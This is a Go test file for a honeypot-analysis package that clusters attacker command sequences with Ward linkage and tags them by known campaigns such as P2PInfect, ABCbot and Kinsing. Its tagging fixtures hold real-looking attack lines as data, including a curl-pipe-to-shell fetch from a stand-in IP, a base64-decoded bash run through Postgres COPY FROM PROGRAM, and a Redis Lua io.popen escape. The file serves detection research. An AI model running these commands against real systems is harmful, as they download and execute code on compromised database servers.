@@ -1,0 +1,241 @@
+package cluster
+
+import (
+	"fmt"
+	"math"
+	"math/rand"
+	"testing"
+	"testing/quick"
+)
+
+func TestVectorize(t *testing.T) {
+	seqs := []Sequence{
+		{ID: "a", Actions: []string{"SET", "SET", "GET", "DEL"}},
+		{ID: "b", Actions: []string{"GET"}},
+		{ID: "c", Actions: nil},
+	}
+	vecs, vocab := Vectorize(seqs)
+	if len(vocab) != 3 {
+		t.Fatalf("vocab = %v", vocab)
+	}
+	// tf(SET, a) = 2/4.
+	idx := map[string]int{}
+	for i, v := range vocab {
+		idx[v] = i
+	}
+	if vecs[0][idx["SET"]] != 0.5 || vecs[0][idx["GET"]] != 0.25 {
+		t.Fatalf("vec a = %v", vecs[0])
+	}
+	if vecs[1][idx["GET"]] != 1 {
+		t.Fatalf("vec b = %v", vecs[1])
+	}
+	for _, x := range vecs[2] {
+		if x != 0 {
+			t.Fatalf("empty sequence vector = %v", vecs[2])
+		}
+	}
+	// TF vectors sum to 1 (or 0 for empty sequences).
+	for i, v := range vecs {
+		var sum float64
+		for _, x := range v {
+			sum += x
+		}
+		if len(seqs[i].Actions) > 0 && math.Abs(sum-1) > 1e-12 {
+			t.Fatalf("vec %d sums to %v", i, sum)
+		}
+	}
+}
+
+// twoBlobs builds two well-separated behaviour groups plus an outlier.
+func twoBlobs() []Sequence {
+	var seqs []Sequence
+	for i := 0; i < 10; i++ {
+		// Brute-force-ish group.
+		seqs = append(seqs, Sequence{
+			ID:      fmt.Sprintf("bf-%d", i),
+			Actions: []string{"AUTH", "AUTH", "AUTH", "INFO"},
+		})
+	}
+	for i := 0; i < 10; i++ {
+		// P2PInfect-ish group: same sequence shape, different params
+		// already stripped by normalisation.
+		seqs = append(seqs, Sequence{
+			ID:      fmt.Sprintf("worm-%d", i),
+			Actions: []string{"INFO", "SET", "CONFIG SET dir", "CONFIG SET dbfilename", "SLAVEOF", "MODULE LOAD"},
+		})
+	}
+	seqs = append(seqs, Sequence{ID: "outlier", Actions: []string{"KEYS"}})
+	return seqs
+}
+
+func TestWardSeparatesBehaviours(t *testing.T) {
+	seqs := twoBlobs()
+	vecs, _ := Vectorize(seqs)
+	dg := Ward(vecs)
+	labels := dg.CutK(3)
+	if n := NumClusters(labels); n != 3 {
+		t.Fatalf("clusters = %d", n)
+	}
+	// All brute-force members share a label, all worm members share a
+	// label, and the two differ.
+	bf, worm := labels[0], labels[10]
+	for i := 0; i < 10; i++ {
+		if labels[i] != bf {
+			t.Fatalf("bf member %d in cluster %d, want %d", i, labels[i], bf)
+		}
+		if labels[10+i] != worm {
+			t.Fatalf("worm member %d in cluster %d, want %d", i, labels[10+i], worm)
+		}
+	}
+	if bf == worm {
+		t.Fatal("behaviour groups merged")
+	}
+	if labels[20] == bf || labels[20] == worm {
+		t.Fatal("outlier absorbed")
+	}
+}
+
+func TestIdenticalSequencesMergeAtZero(t *testing.T) {
+	seqs := []Sequence{
+		{ID: "x", Actions: []string{"SET", "GET"}},
+		{ID: "y", Actions: []string{"SET", "GET"}},
+		{ID: "z", Actions: []string{"FLUSHDB"}},
+	}
+	vecs, _ := Vectorize(seqs)
+	dg := Ward(vecs)
+	labels := dg.Cut(1e-12)
+	if labels[0] != labels[1] {
+		t.Fatal("identical sequences not merged at height 0")
+	}
+	if labels[2] == labels[0] {
+		t.Fatal("distinct sequence merged at height 0")
+	}
+}
+
+func TestCutExtremes(t *testing.T) {
+	vecs, _ := Vectorize(twoBlobs())
+	dg := Ward(vecs)
+	all := dg.Cut(math.Inf(1))
+	if NumClusters(all) != 1 {
+		t.Fatalf("cut at inf = %d clusters", NumClusters(all))
+	}
+	none := dg.Cut(-1)
+	if NumClusters(none) != len(vecs) {
+		t.Fatalf("cut below 0 = %d clusters", NumClusters(none))
+	}
+	if got := NumClusters(dg.CutK(1)); got != 1 {
+		t.Fatalf("CutK(1) = %d", got)
+	}
+	if got := NumClusters(dg.CutK(9999)); got != len(vecs) {
+		t.Fatalf("CutK(big) = %d", got)
+	}
+}
+
+func TestDendrogramDegenerate(t *testing.T) {
+	if dg := Ward(nil); dg.Leaves != 0 || len(dg.Merges) != 0 {
+		t.Fatal("empty input")
+	}
+	dg := Ward([]Vector{{1, 0}})
+	if dg.Leaves != 1 || len(dg.Merges) != 0 {
+		t.Fatal("single input")
+	}
+	if labels := dg.Cut(10); len(labels) != 1 || labels[0] != 0 {
+		t.Fatalf("single cut = %v", labels)
+	}
+}
+
+// Property: Ward produces exactly n-1 merges and CutK(k) yields exactly k
+// clusters for any k in range, on random inputs.
+func TestWardStructureQuick(t *testing.T) {
+	r := rand.New(rand.NewSource(5))
+	f := func() bool {
+		n := 2 + r.Intn(30)
+		dim := 1 + r.Intn(5)
+		vecs := make([]Vector, n)
+		for i := range vecs {
+			v := make(Vector, dim)
+			for j := range v {
+				v[j] = r.Float64()
+			}
+			vecs[i] = v
+		}
+		dg := Ward(vecs)
+		if len(dg.Merges) != n-1 {
+			return false
+		}
+		k := 1 + r.Intn(n)
+		if NumClusters(dg.CutK(k)) != k {
+			return false
+		}
+		return true
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 60}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestRunAndMembers(t *testing.T) {
+	res := Run(twoBlobs(), 0.05)
+	if res.Clusters < 2 {
+		t.Fatalf("clusters = %d", res.Clusters)
+	}
+	total := 0
+	for _, sz := range res.Sizes() {
+		total += sz
+	}
+	if total != len(res.Sequences) {
+		t.Fatalf("sizes sum = %d", total)
+	}
+	m := res.Members(res.Labels[0])
+	if len(m) == 0 || m[0] != "bf-0" {
+		t.Fatalf("members = %v", m)
+	}
+	if res.String() == "" {
+		t.Fatal("empty String()")
+	}
+}
+
+func TestTagSequence(t *testing.T) {
+	cases := []struct {
+		name    string
+		actions []string
+		raws    []string
+		want    string
+	}{
+		{"p2pinfect", []string{"SLAVEOF", "MODULE LOAD"}, []string{"CONFIG SET dbfilename exp.so"}, TagP2PInfect},
+		{"abcbot", []string{"SET"}, []string{"SET x curl http://198.51.100.2:80/ff.sh|sh"}, TagABCbot},
+		{"redis-cve", []string{"EVAL"}, []string{`EVAL local io = io_l(); io.popen("id")`}, TagRedisCVE},
+		{"kinsing", []string{"CREATE TABLE", "COPY FROM PROGRAM"}, []string{"COPY t FROM PROGRAM 'echo x | base64 -d | bash'"}, TagKinsing},
+		{"lucifer", []string{"SEARCH SCRIPT-EXEC"}, []string{"curl -o /tmp/sss6"}, TagLucifer},
+		{"craftcms", []string{"CVE-2023-41892 PROBE"}, nil, TagCraftCMS},
+		{"vmware", []string{"CVE-2021-22005 PROBE"}, nil, TagVMware},
+		{"ransom", []string{"FIND", "DELETE", "INSERT"}, []string{"doc=content=You must pay 0.0058 BTC"}, TagRansom},
+		{"rdp", []string{"PROTOCOL-ERROR"}, []string{"Cookie: mstshash=Administr"}, TagRDPScan},
+		{"jdwp", []string{"JDWP-HANDSHAKE"}, []string{"JDWP-Handshake"}, TagJDWPScan},
+		{"privilege", []string{"ALTER USER"}, nil, TagPrivilege},
+		{"benign", []string{"INFO", "KEYS"}, nil, TagNone},
+	}
+	for _, c := range cases {
+		if got := TagSequence(c.actions, c.raws); got != c.want {
+			t.Errorf("%s: tag = %q, want %q", c.name, got, c.want)
+		}
+	}
+}
+
+func TestTagClustersMajority(t *testing.T) {
+	seqs := []Sequence{
+		{ID: "a", Actions: []string{"SLAVEOF", "MODULE LOAD"}},
+		{ID: "b", Actions: []string{"SLAVEOF", "MODULE LOAD"}},
+		{ID: "c", Actions: []string{"KEYS"}},
+	}
+	res := Run(seqs, 1e-9)
+	raws := map[string][]string{}
+	tags := TagClusters(res, raws)
+	wormLabel := res.Labels[0]
+	if tags[wormLabel] != TagP2PInfect {
+		t.Fatalf("tags = %v", tags)
+	}
+	if _, ok := tags[res.Labels[2]]; ok {
+		t.Fatal("benign cluster tagged")
+	}
+}
